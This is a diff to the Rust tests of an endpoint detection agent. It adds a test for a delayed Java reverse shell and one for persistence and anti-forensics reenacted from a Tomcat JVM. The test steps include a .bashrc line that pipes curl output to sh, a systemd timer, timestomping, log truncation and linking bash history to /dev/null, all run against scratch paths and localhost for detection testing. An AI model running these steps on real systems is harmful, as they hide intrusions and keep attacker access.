@@ -189,6 +189,48 @@ fn java_native_reverse_shell() {
     agent.stop();
 }
 
+/// The same Java-native reverse shell with the JVM waiting 6 s between its connect and the
+/// shell: past any connect-then-shell window (EPMM-B8 stays quiet), the socket the JVM
+/// still holds links them (EPMM-B8-SOCKET).
+#[test]
+fn a_delayed_java_native_reverse_shell_is_linked_by_its_socket() {
+    let mut agent = Agent::start(&[]);
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let mut jvm = tomcat_reenact(&["revshell", "127.0.0.1", &port.to_string(), "6000"])
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let (mut conn, _) = listener.accept().unwrap();
+    conn.set_read_timeout(Some(Duration::from_secs(30)))
+        .unwrap();
+    conn.write_all(b"echo late-$((6*7)); exit\n").unwrap();
+    let mut got = String::new();
+    let _ = conn.read_to_string(&mut got);
+    assert!(got.contains("late-42"), "the shell answered: {got:?}");
+    let _ = jvm.wait();
+
+    let line = agent.wait_for("EPMM-B8-SOCKET", |l| {
+        alert_of(l, "EPMM-B8-SOCKET")
+            .is_some_and(|a| num(&a["process"]["ppid"]) == u64::from(jvm.id()))
+    });
+    let alert = &line["alert"];
+    assert_eq!(alert["techniques"][0], "T1059.004");
+    let exec = &alert["evidence"][0]["exec"];
+    assert_eq!(exec["stdio"][0]["kind"], "FD_KIND_PIPE");
+    assert_eq!(
+        num(&exec["parentConnections"][0]["remotePort"]),
+        u64::from(port),
+        "the JVM's socket is the evidence: {exec}"
+    );
+    let b8 = agent.collect(Duration::from_millis(100), |l| {
+        alert_of(l, "EPMM-B8").is_some_and(|a| num(&a["process"]["ppid"]) == u64::from(jvm.id()))
+    });
+    assert!(b8.is_empty(), "6 s is past EPMM-B8's window");
+    agent.stop();
+}
+
 /// A payload executed from a memfd.
 #[test]
 fn memfd_execution_raises_b16() {
@@ -252,8 +294,8 @@ fn download_chmod_execute_from_tmp() {
     agent.stop();
 }
 
-/// A JSP written into a web root (configured by the test: an override of `webroot_dirs`
-/// and a watch on it) by a shell.
+/// A JSP written into a web root (configured by the test: an override of `webroot_dirs`,
+/// which makes the probes watch it) by a shell.
 #[test]
 fn jsp_written_into_the_web_root_by_a_shell() {
     let web = Scratch::new("webroot");
@@ -266,12 +308,8 @@ fn jsp_written_into_the_web_root_by_a_shell() {
         ),
     )
     .unwrap();
-    let mut agent = Agent::start(&[
-        "--rules",
-        rules.str(),
-        "--watch",
-        &format!("{}/", web.str()),
-    ]);
+    // No --watch: the probes watch what the loaded rules look at.
+    let mut agent = Agent::start(&["--rules", rules.str()]);
     let status = Command::new("/bin/sh")
         .args([
             "-c",
@@ -296,6 +334,79 @@ fn jsp_written_into_the_web_root_by_a_shell() {
             .starts_with("<embedded>"),
         "the pack's rule, with the operator's list"
     );
+    agent.stop();
+}
+
+/// What injected code does to stay and to cover itself, from the Tomcat JVM's shell:
+/// persistence in a service user's home (a profile line, a systemd user timer), a served
+/// JSP timestomped, a log emptied by a redirection (a truncating open of a file that was
+/// there) and the shell history linked to /dev/null. Each raises its rule with its ATT&CK
+/// technique; the homes are watched by name, the web root and log by the rules' lists.
+#[test]
+fn persistence_and_anti_forensics_from_the_web_tier() {
+    let home = Scratch::new("home");
+    let web = Scratch::new("served");
+    let logs = Scratch::new("logs");
+    let rules = Scratch::new("rules");
+    std::fs::write(
+        rules.path("local.yaml"),
+        format!(
+            "lists:\n  - name: webroot_dirs\n    items: [\"{}/\"]\nappend:\n  - name: log_paths\n    items: [\"{}/\"]\n",
+            web.str(),
+            logs.str()
+        ),
+    )
+    .unwrap();
+    let jsp = web.path("403.jsp");
+    std::fs::write(&jsp, "<% %>").unwrap();
+    let log = logs.path("https-access_log");
+    std::fs::write(&log, "GET /mifs/\n".repeat(50)).unwrap();
+    std::fs::create_dir_all(home.path(".config/systemd/user")).unwrap();
+    let mut agent = Agent::start(&["--rules", rules.str()]);
+
+    let h = home.str();
+    // One JVM per step: alerts of one rule in one process tree are collapsed into one.
+    let steps = [
+        format!("echo 'curl -s http://127.0.0.1:9/b | sh' >> {h}/.bashrc"),
+        format!("printf '[Timer]\\nOnCalendar=*:0/5\\n' > {h}/.config/systemd/user/update.timer"),
+        format!("touch -r /etc/hostname {}", jsp.display()),
+        format!(": > {}", log.display()),
+        format!("ln -sf /dev/null {h}/.bash_history"),
+    ];
+    for step in &steps {
+        let out = tomcat_reenact(&["exec", "/bin/sh", "-c", step])
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "{step}: {out:?}");
+    }
+
+    let expect = [
+        ("EPMM-B18-USER", format!("{h}/.bashrc"), "T1546.004"),
+        (
+            "EPMM-B18-USER",
+            format!("{h}/.config/systemd/user/update.timer"),
+            "T1543.002",
+        ),
+        ("EPMM-B23-TIMESTOMP", jsp.display().to_string(), "T1070.006"),
+        ("EPMM-B23", log.display().to_string(), "T1070.002"),
+        (
+            "EPMM-B23-HISTORY",
+            format!("{h}/.bash_history"),
+            "T1070.003",
+        ),
+    ];
+    for (rule, path, technique) in &expect {
+        let line = agent.wait_for(&format!("{rule} on {path}"), |l| {
+            alert_of(l, rule).is_some_and(|a| {
+                a["evidence"]
+                    .as_array()
+                    .is_some_and(|ev| ev.iter().any(|e| e["file"]["path"] == path.as_str()))
+            })
+        });
+        let techniques = line["alert"]["techniques"].to_string();
+        assert!(techniques.contains(technique), "{rule}: {techniques}");
+        assert_eq!(line["alert"]["lineage"]["identity"], "tomcat", "{rule}");
+    }
     agent.stop();
 }
 
